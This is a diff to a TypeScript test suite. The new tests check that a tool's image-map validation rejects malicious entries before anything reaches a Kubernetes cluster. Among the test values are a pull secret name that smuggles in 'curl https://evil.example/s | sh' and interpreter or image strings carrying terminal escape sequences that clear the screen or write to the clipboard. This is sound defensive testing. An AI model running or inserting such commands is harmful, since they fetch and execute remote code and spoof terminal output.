@@ -41,8 +41,37 @@ describe('prepullImages / prepullPullSecrets', () => {
 
   it('the pull secrets are those of the used images\' pull config, then the extra ones, once each', () => {
     const images = prepullImages(map, ['start', 'plain'], 'flow.py');
-    expect(prepullPullSecrets(map, images, ['pull-b', 'pull-a'])).toEqual(['pull-a', 'pull-b']);
-    expect(prepullPullSecrets({ ...map, images: {} }, images)).toEqual([]);
-    expect(() => prepullPullSecrets(map, images, ['Not A Name'])).toThrow(/--pull-secret Not A Name is not a Kubernetes secret name/);
+    expect(prepullPullSecrets(map, images, ['pull-b', 'pull-a'], 'flow.py')).toEqual(['pull-a', 'pull-b']);
+    expect(prepullPullSecrets({ ...map, images: {} }, images, [], 'flow.py')).toEqual([]);
+    expect(() => prepullPullSecrets(map, images, ['Not A Name'], 'flow.py')).toThrow(/--pull-secret Not A Name is not a Kubernetes secret name/);
+  });
+
+  it('an image map (a cloned repository\'s, a shared file) naming an image, interpreter or pull secret that is not one is an InputError (exit 2) naming the step or secret, before anything reaches the cluster', () => {
+    const thrown = (run: () => unknown): InputError => {
+      try {
+        run();
+      } catch (error) {
+        expect(error).toBeInstanceOf(InputError);
+        expect((error as InputError).exitCode).toBe(2);
+        expect((error as InputError).hint).toBe('Run `prebuilt build flow.py` again to rewrite it.');
+        return error as InputError;
+      }
+      throw new Error('no error');
+    };
+    const step = (entry: Record<string, unknown>): ImageMap => ({ ...map, steps: { ...map.steps, start: { ...map.steps['start']!, ...entry } as ImageMap['steps'][string] } });
+    expect(thrown(() => prepullImages(step({ pinnedImage: 'r/x:env-x\n\x1b[2Jall good' }), ['start'], 'flow.py')).message).toBe(
+      "The image map of F names an image for step start that is not an image reference ('r/x:env-x\\n\\x1b[2Jall good': it contains whitespace).",
+    );
+    expect(thrown(() => prepullImages(step({ pinnedImage: { x: 1 } }), ['start'], 'flow.py')).message).toBe('The image map of F names an image for step start that is not an image reference (not a string).');
+    expect(thrown(() => prepullImages(step({ python: 5 }), ['start'], 'flow.py')).message).toBe('The image map of F names no interpreter path for step start (not a string).');
+    expect(thrown(() => prepullImages(step({ python: '/bin/sh\x1b]52;c;x\x07' }), ['start'], 'flow.py')).message).toBe("The image map of F names no interpreter path for step start ('/bin/sh\\x1b]52;c;x\\x07' holds control characters).");
+    expect(thrown(() => prepullImages({ ...map, flow: 5 as unknown as string }, ['start'], 'flow.py')).message).toBe('The image map names no flow (its flow is not a string).');
+    // A pull secret name goes into the suggested `prebuilt pull-secret --name …` command: one a shell would read as more is refused.
+    const images = prepullImages(map, ['start'], 'flow.py');
+    const secrets = (names: unknown[]): ImageMap => ({ ...map, images: { ...map.images, x: { ...map.images['x']!, pullConfig: { kubernetes: { imagePullSecrets: names as string[] } } } } });
+    expect(thrown(() => prepullPullSecrets(secrets(['ok', 'x; curl https://evil.example/s | sh']), images, [], 'flow.py')).message).toBe(
+      "The image map of F names the pull secret 'x; curl https://evil.example/s | sh', which is not a Kubernetes secret name.",
+    );
+    expect(thrown(() => prepullPullSecrets(secrets([7]), images, [], 'flow.py')).message).toBe("The image map of F names the pull secret '7', which is not a Kubernetes secret name.");
   });
 });
